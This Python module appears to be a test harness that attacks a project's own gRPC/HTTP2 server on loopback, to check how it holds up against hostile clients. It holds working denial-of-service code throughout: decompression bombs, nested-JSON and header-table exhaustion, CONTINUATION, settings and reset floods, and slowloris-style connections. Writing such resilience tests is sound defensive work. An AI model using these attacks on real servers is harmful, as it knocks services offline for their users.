"""Attacks on a server, each a task that goes on until it is cancelled; see ``hostile``.

Every attack sends at the rate it is given, over connections from an address of its own. None waits
for answers unless it says so; all of them read and forget what comes.
"""

import contextlib
import gzip
import hashlib
import itertools
import random
import struct
import zlib
from collections.abc import Awaitable, Callable, Iterator
from typing import Any

import attrs
import hpack
import trio

from globalstore.gen.tensorcast.global_store.v1 import global_store_pb2 as wire
from globalstore.rules import multihash

RUNTIME = "/tensorcast.global_store.v1.ClusterRuntimeService/"
CATALOG = "/tensorcast.global_store.v1.ArtifactCatalogService/"
REQUEST, RECONCILE = RUNTIME + "RequestReplicaTransport", RUNTIME + "ReconcileWorkerState"
WATCH = "/grpc.health.v1.Health/Watch"
CHECK = "/grpc.health.v1.Health/Check"

DATA, HEADERS, RST_STREAM, SETTINGS, PING, WINDOW_UPDATE, CONTINUATION = 0, 1, 3, 4, 6, 8, 9
END_STREAM, END_HEADERS = 1, 4

_FRAME_BYTES = 16384


def frame(kind: int, flags: int, stream_id: int, payload: bytes = b"") -> bytes:
    """Return an HTTP/2 frame."""
    return (
        struct.pack(">I", len(payload))[1:]
        + bytes((kind, flags))
        + struct.pack(">I", stream_id)
        + payload
    )


def message(payload: bytes, *, compressed: bool = False) -> bytes:
    """Return a gRPC message with its prefix."""
    return bytes((compressed,)) + struct.pack(">I", len(payload)) + payload


class Rate:
    """Lets so many bytes a second through."""

    def __init__(self, bytes_per_second: float) -> None:
        self.bytes_per_second = bytes_per_second
        self._free_at = trio.current_time()
        self.sent = 0

    async def spend(self, size: int) -> None:
        """Wait until so many bytes may be sent."""
        self.sent += size
        self._free_at = max(self._free_at, trio.current_time()) + size / self.bytes_per_second
        await trio.sleep_until(self._free_at)


@attrs.define(eq=False)
class Target:
    """The server, as an attacker sees it."""

    port: int
    http_port: int
    # Of role full; some attacks do without.
    token: str
    rate: Rate
    address: str = "127.0.0.2"


class Wire:
    """One HTTP/2 connection that obeys flow control and nothing else."""

    def __init__(self, target: Target, stream: trio.SocketStream) -> None:
        self._target = target
        self._stream = stream
        self._encoder = hpack.Encoder()
        self._ids = itertools.count(1, 2)
        self._window = 65535
        self._windows: dict[int, int] = {}
        self._initial = 65535
        self._moved = trio.Event()
        self._sending = trio.Lock()
        self.reads = True

    async def send(self, data: bytes) -> None:
        """Send bytes at the rate of the attack."""
        await self._target.rate.spend(len(data))
        async with self._sending:
            await self._stream.send_all(data)

    async def open(self, path: str, *fields: tuple[str, str], token: bool = True) -> int:
        """Open a stream and leave it open."""
        stream_id = next(self._ids)
        await self.send(
            frame(HEADERS, END_HEADERS, stream_id, self.block(path, *fields, token=token))
        )
        return stream_id

    def block(self, path: str, *fields: tuple[str, str], token: bool = True) -> bytes:
        """Return the header block of a call."""
        own = [("authorization", f"Bearer {self._target.token}")] if token else []
        head = [(":method", "POST"), (":scheme", "http"), (":path", path), (":authority", "x")]
        grpc = [("content-type", "application/grpc"), ("te", "trailers")]
        return bytes(self._encoder.encode([*head, *grpc, *own, *fields]))

    def next_id(self) -> int:
        """Return the id of a stream that is to be opened by hand."""
        return next(self._ids)

    async def body(self, stream_id: int, data: bytes, *, end: bool = True) -> None:
        """Send a body within the windows that the server gives."""
        self._windows.setdefault(stream_id, self._initial)
        at = 0
        while at < len(data):
            room = min(_FRAME_BYTES, self._window, self._windows[stream_id], len(data) - at)
            if room <= 0:
                self._moved = trio.Event()
                await self._moved.wait()
                continue
            self._window -= room
            self._windows[stream_id] -= room
            last = end and at + room == len(data)
            await self.send(frame(DATA, END_STREAM * last, stream_id, data[at : at + room]))
            at += room

    async def call(
        self, path: str, body: bytes, *fields: tuple[str, str], token: bool = True
    ) -> int:
        """Send a whole request."""
        stream_id = await self.open(path, *fields, token=token)
        await self.body(stream_id, body)
        return stream_id

    async def run(self) -> None:
        """Introduce the client, then read what comes."""
        buffer = b""
        while data := await self._stream.receive_some(65536):
            buffer += bytes(data)
            while len(buffer) >= 9 and len(buffer) >= 9 + int.from_bytes(buffer[:3], "big"):
                size = int.from_bytes(buffer[:3], "big")
                await self._take(buffer[3], buffer[4], buffer[5:9], buffer[9 : 9 + size])
                buffer = buffer[9 + size :]
        raise trio.BrokenResourceError("the server has closed the connection")

    async def _take(self, kind: int, flags: int, where: bytes, payload: bytes) -> None:
        stream_id = int.from_bytes(where, "big")
        if kind == WINDOW_UPDATE:
            more = int.from_bytes(payload, "big")
            if stream_id:
                self._windows[stream_id] = self._windows.get(stream_id, self._initial) + more
            else:
                self._window += more
            self._moved.set()
        elif kind == SETTINGS and not flags & 1:
            for key, value in struct.iter_unpack(">HI", payload):
                if key == 4:
                    self._initial = value
            await self.send(frame(SETTINGS, 1, 0))
        elif kind == PING and not flags & 1:
            await self.send(frame(PING, 1, 0, payload))
        elif kind == DATA and self.reads and payload:
            await self.send(frame(WINDOW_UPDATE, 0, 0, struct.pack(">I", len(payload))))


Attack = Callable[[Target, trio.Nursery], Awaitable[None]]
ATTACKS: dict[str, Attack] = {}


# Attacks that fail to do what they mean unless the server holds so many MB for clients meanwhile.
HOLDS_MB: dict[str, float] = {}

# From how many addresses an attack comes.
ADDRESSES: dict[str, int] = {}


def attack(run: Attack | None = None, *, holds_mb: float = 0, addresses: int = 1) -> Any:
    """List an attack under the name of its function."""

    def listed(run: Attack) -> Attack:
        ATTACKS[run.__name__] = run
        HOLDS_MB[run.__name__] = holds_mb
        ADDRESSES[run.__name__] = addresses
        return run

    return listed if run is None else listed(run)


async def connected(target: Target, nursery: trio.Nursery, *, reads: bool = True) -> Wire:
    """Open a connection and have it read."""
    stream = await trio.open_tcp_stream("127.0.0.1", target.port, local_address=target.address)
    client = Wire(target, stream)
    client.reads = reads
    await client.send(b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n" + frame(SETTINGS, 0, 0))
    ready = trio.Event()

    async def run() -> None:
        try:
            ready.set()
            await client.run()
        except trio.BrokenResourceError:
            client._moved.set()

    nursery.start_soon(run)
    await ready.wait()
    return client


async def again(
    target: Target, nursery: trio.Nursery, act: Callable[[Wire], Awaitable[None]]
) -> None:
    """Act over a connection, and over a new one when the server has ended it."""
    while True:
        try:
            client = await connected(target, nursery)
            while True:
                await act(client)
        except (trio.BrokenResourceError, trio.ClosedResourceError, OSError):
            await trio.sleep(0.05)


def unknown_field(size: int) -> bytes:
    """Return a field that no message has, with so many bytes."""
    return b"\xfa\x7f" + _varint(size) + bytes(size)


def _varint(value: int) -> bytes:
    out = bytearray()
    while value > 127:
        out.append(value & 127 | 128)
        value >>= 7
    out.append(value)
    return bytes(out)


GZIP = ("grpc-encoding", "gzip")


@attack
async def watch_bombs(target: Target, nursery: trio.Nursery) -> None:
    """Health watches without a token, each 60 kB of gzip that inflates to 60 MiB."""
    body = message(gzip.compress(unknown_field(60 << 20)), compressed=True)
    await again(target, nursery, lambda it: _whole(it, WATCH, body, GZIP, token=False))


@attack
async def waiting_bombs(target: Target, nursery: trio.Nursery) -> None:
    """Requests that wait for a source, each with a bomb in it."""
    body = message(gzip.compress(next(waiting()) + unknown_field(60 << 20)), compressed=True)
    await again(target, nursery, lambda it: _whole(it, REQUEST, body, GZIP))


@attack(holds_mb=3)
async def small_unknown_fields_that_wait(target: Target, nursery: trio.Nursery) -> None:
    """Requests that wait for a source, each with much besides that nobody knows."""
    requests = waiting()

    async def act(it: Wire) -> None:
        await it.call(REQUEST, message(next(requests) + unknown_field(40_000)))

    await again(target, nursery, act)


def waiting() -> Iterator[bytes]:
    """Yield requests for a source that the first of them takes, each with an id of its own."""
    request = wire.RequestReplicaTransportRequest(
        artifact_id="model", source_node_id="h", source_address="10.0.0.8"
    )
    request.wait_timeout_dur.FromSeconds(600)
    own = random.randbytes(4).hex()
    for number in itertools.count():
        request.request_id = f"{own}-{number}"
        yield request.SerializeToString()


async def _whole(
    it: Wire, path: str, body: bytes, *fields: tuple[str, str], token: bool = True
) -> None:
    await it.call(path, body, *fields, token=token)


@attack
async def tiny_entries(target: Target, nursery: trio.Nursery) -> None:
    """Snapshots of 8 MiB of entries of two bytes each."""
    number = wire.ReconcileWorkerStateRequest.DESCRIPTOR.fields_by_name["inventory"].number
    body = message(bytes((number << 3 | 2, 0)) * (4 << 20))
    await again(target, nursery, lambda it: _whole(it, RECONCILE, body))


@attack
async def tiny_entries_in_gzip(target: Target, nursery: trio.Nursery) -> None:
    """Snapshots of 60 MiB of such entries in gzip, in which they are small."""
    number = wire.ReconcileWorkerStateRequest.DESCRIPTOR.fields_by_name["inventory"].number
    body = message(gzip.compress(bytes((number << 3 | 2, 0)) * (30 << 20)), compressed=True)
    await again(target, nursery, lambda it: _whole(it, RECONCILE, body, GZIP))


def index_of(artifact_id: str, data: bytes) -> wire.UpsertArtifactMetadataRequest:
    """Return the request that stores the index of an artifact."""
    request = wire.UpsertArtifactMetadataRequest(canonical_index_data=data)
    request.descriptor.artifact_id = artifact_id
    request.descriptor.index_multihash = multihash.encode(hashlib.sha256(data).digest())
    return request


def _index_request(data: bytes) -> bytes:
    return message(index_of("hostile", data).SerializeToString())


@attack
async def json_indexes(target: Target, nursery: trio.Nursery) -> None:
    """Indexes of 6 MiB of JSON that becomes half a million objects."""
    body = _index_request(b"{" + b",".join(b'"%d":[{}]' % n for n in range(500_000)) + b"}")
    await again(target, nursery, lambda it: _whole(it, CATALOG + "UpsertArtifactMetadata", body))


@attack
async def deep_json_indexes(target: Target, nursery: trio.Nursery) -> None:
    """Indexes of JSON that is nested as deep as its size allows."""
    body = _index_request(b'{"a":' + b"[" * (3 << 20) + b"]" * (3 << 20) + b"}")
    await again(target, nursery, lambda it: _whole(it, CATALOG + "UpsertArtifactMetadata", body))


@attack
async def empty_gzip_members(target: Target, nursery: trio.Nursery) -> None:
    """A body of 8 MiB of gzip members that hold nothing."""
    body = message(gzip.compress(b"") * 400_000, compressed=True)
    await again(target, nursery, lambda it: _whole(it, RECONCILE, body, GZIP))


@attack
async def empty_deflate_blocks(target: Target, nursery: trio.Nursery) -> None:
    """A body of 8 MiB of blocks with tables of their own, which hold nothing."""
    deflater = zlib.compressobj(9, zlib.DEFLATED, 31)
    start = deflater.compress(random.Random(1).randbytes(300)) + deflater.flush(zlib.Z_FULL_FLUSH)
    body = message(start + b"\0\0\0\xff\xff" * 1_600_000, compressed=True)
    await again(target, nursery, lambda it: _whole(it, RECONCILE, body, GZIP))


@attack
async def commas_in_metadata(target: Target, nursery: trio.Nursery) -> None:
    """Binary metadata of nothing but commas, kept in the header table and named by one byte."""

    async def act(it: Wire) -> None:
        for number in range(2000):
            fields = [("x-bin", "," * 3000)] * 4
            block = it.block(CHECK, *fields, ("x-n", str(number)), token=False)
            stream_id = it.next_id()
            await it.send(frame(HEADERS, END_HEADERS | END_STREAM, stream_id, block))

    await again(target, nursery, act)


@attack
async def huffman_heads(target: Target, nursery: trio.Nursery) -> None:
    """Header blocks of 40 kB in Huffman code, in as many frames as they take."""
    dice = random.Random(2)

    async def act(it: Wire) -> None:
        noise = dice.randbytes(30_000).hex()
        block = it.block(CHECK, ("x-noise", noise), token=False)
        stream_id = it.next_id()
        pieces = [block[at : at + 16_000] for at in range(0, len(block), 16_000)]
        data = frame(HEADERS, END_STREAM, stream_id, pieces[0])
        for number, piece in enumerate(pieces[1:], 2):
            data += frame(CONTINUATION, END_HEADERS * (number == len(pieces)), stream_id, piece)
        await it.send(data)

    await again(target, nursery, act)


@attack
async def large_heads(target: Target, nursery: trio.Nursery) -> None:
    """Calls whose heads are as large as they may be, and new each time."""
    dice = random.Random(3)
    body = message(b"")

    async def act(it: Wire) -> None:
        await it.call(CHECK, body, ("x-noise", dice.randbytes(6_000).hex()), token=False)

    await again(target, nursery, act)


@attack(holds_mb=5)
async def unfinished_messages(target: Target, nursery: trio.Nursery) -> None:
    """Calls without end, each with most of a message."""

    async def act(it: Wire) -> None:
        stream_id = await it.open(RECONCILE)
        await it.body(stream_id, b"\0\3\xff\xff\xff" + bytes(1000), end=False)

    for _ in range(8):
        nursery.start_soon(again, target, nursery, act)
    await trio.sleep_forever()


@attack(addresses=200)
async def silent_connections(target: Target, nursery: trio.Nursery) -> None:
    """Connections that say nothing, as many as can be had."""
    streams = []
    while True:
        await target.rate.spend(2000)
        try:
            stream = await trio.open_tcp_stream(
                "127.0.0.1", target.port, local_address=f"127.0.0.{2 + len(streams) % 200}"
            )
        except OSError:
            await trio.sleep(0.1)
            continue
        streams.append(stream)
        if len(streams) > 2000:
            await streams.pop(0).aclose()


@attack(holds_mb=20)
async def waiting_calls(target: Target, nursery: trio.Nursery) -> None:
    """Calls that wait for a source that never comes."""
    requests = waiting()

    async def act(it: Wire) -> None:
        await it.call(REQUEST, message(next(requests)))

    for _ in range(4):
        nursery.start_soon(again, target, nursery, act)
    await trio.sleep_forever()


@attack(holds_mb=40, addresses=10)
async def waiting_calls_of_many_addresses(target: Target, nursery: trio.Nursery) -> None:
    """The same from several addresses, at a fifth of the rate: every call is one to be served."""
    target.rate.bytes_per_second /= 5
    for number in range(3, 13):
        other = attrs.evolve(target, address=f"127.0.0.{number}")
        nursery.start_soon(waiting_calls, other, nursery)
    await trio.sleep_forever()


@attack
async def many_settings(target: Target, nursery: trio.Nursery) -> None:
    """Frames of nothing but settings."""
    settings = frame(SETTINGS, 0, 0, struct.pack(">HI", 4, 65535) * 2730)
    await again(target, nursery, lambda it: it.send(settings))


@attack
async def tiny_frames(target: Target, nursery: trio.Nursery) -> None:
    """A message in frames of one byte each."""

    async def act(it: Wire) -> None:
        stream_id = await it.open(RECONCILE)
        await it.body(stream_id, b"\0\0\1\0\0", end=False)
        for _ in range(200):
            await it.send(frame(DATA, 0, stream_id, b"x") * 100)

    await again(target, nursery, act)


@attack(addresses=4)
async def tiny_keys_in_gzip(target: Target, nursery: trio.Nursery) -> None:
    """Snapshots of half a MiB that inflate to 60 MiB of empty texts, from several addresses."""
    dice = random.Random(4)
    request = wire.ReconcileWorkerStateRequest()
    entry = request.inventory.add()
    entry.memory_info.remote_memory_keys.extend([""] * 7000)
    data = b""
    while len(data) < 60 << 20:
        entry.ref.artifact_id = dice.randbytes(60).hex()
        data += request.SerializeToString() * 10
    body = message(gzip.compress(data), compressed=True)
    for number in range(2, 6):
        other = attrs.evolve(target, address=f"127.0.0.{number}")
        nursery.start_soon(again, other, nursery, lambda it: _whole(it, RECONCILE, body, GZIP))
    await trio.sleep_forever()


@attack(holds_mb=10)
async def unread_answers(target: Target, nursery: trio.Nursery) -> None:
    """Reads of an index of some MiB whose answers nobody takes."""
    request = wire.GetArtifactIndexByIdRequest(artifact_id="model")
    body = message(request.SerializeToString())

    async def act() -> None:
        it = await connected(target, nursery, reads=False)
        for _ in range(100):
            await it.call(CATALOG + "GetArtifactIndexById", body)
        await trio.sleep_forever()

    for _ in range(5):
        nursery.start_soon(_tolerant, act)
    await trio.sleep_forever()


async def _tolerant(act: Callable[[], Awaitable[None]]) -> None:
    with contextlib.suppress(trio.BrokenResourceError, trio.ClosedResourceError, OSError):
        await act()


@attack
async def calls_for_nobody(target: Target, nursery: trio.Nursery) -> None:
    """Workers that never were are taken off, each with a request id to remember."""
    numbers = itertools.count()

    async def act(it: Wire) -> None:
        number = next(numbers)
        request = wire.UnregisterWorkerRequest(
            worker_id=f"w-{number}", client_request_id="r" * 200 + str(number)
        )
        await it.call(RUNTIME + "UnregisterWorker", message(request.SerializeToString()))

    await again(target, nursery, act)


@attack
async def long_strings(target: Target, nursery: trio.Nursery) -> None:
    """Replicas whose memory keys are longer than any key."""
    request = wire.RegisterReplicaRequest()
    request.mem_info.remote_memory_keys.append("k" * (2 << 20))
    body = message(request.SerializeToString())
    await again(target, nursery, lambda it: _whole(it, RUNTIME + "RegisterReplica", body))


@attack
async def wrong_tokens(target: Target, nursery: trio.Nursery) -> None:
    """Calls whose token nobody knows."""
    body = message(wire.ListActiveWorkersRequest().SerializeToString())
    numbers = itertools.count()
    await again(
        target,
        nursery,
        lambda it: _whole(
            it, RUNTIME + "ListActiveWorkers", body,
            ("authorization", f"Bearer {next(numbers)}"), token=False,
        ),
    )  # fmt: skip


@attack
async def resets(target: Target, nursery: trio.Nursery) -> None:
    """Calls that are opened and reset at once."""
    body = message(wire.ListActiveWorkersRequest().SerializeToString())

    async def act(it: Wire) -> None:
        stream_id = await it.call(RUNTIME + "ListActiveWorkers", body)
        await it.send(frame(RST_STREAM, 0, stream_id, struct.pack(">I", 8)))

    await again(target, nursery, act)


@attack
async def http_heads(target: Target, nursery: trio.Nursery) -> None:
    """Requests on the HTTP port whose head has 60 kB, and one of 1 MB."""
    for size in itertools.cycle([60_000, 60_000, 60_000, 1_000_000]):
        head = b"GET /health HTTP/1.1\r\nHost: x\r\n" + b"X-A: " + b"y" * size + b"\r\n\r\n"
        await target.rate.spend(len(head))
        try:
            stream = await trio.open_tcp_stream(
                "127.0.0.1", target.http_port, local_address=target.address
            )
            async with stream:
                with trio.move_on_after(2):
                    await stream.send_all(head)
                    await stream.receive_some()
        except (OSError, trio.BrokenResourceError):
            await trio.sleep(0.05)


def run(name: str, port: int, http_port: int, token: str, bytes_per_second: float) -> None:
    """Attack until the process is ended."""

    async def main() -> None:
        target: Any = Target(port, http_port, token, Rate(bytes_per_second))
        async with trio.open_nursery() as nursery:
            nursery.start_soon(_tell, target.rate)
            await ATTACKS[name](target, nursery)

    trio.run(main)


async def _tell(rate: Rate) -> None:
    """Print how many bytes were sent, again and again."""
    while True:
        print(rate.sent, flush=True)
        await trio.sleep(0.1)
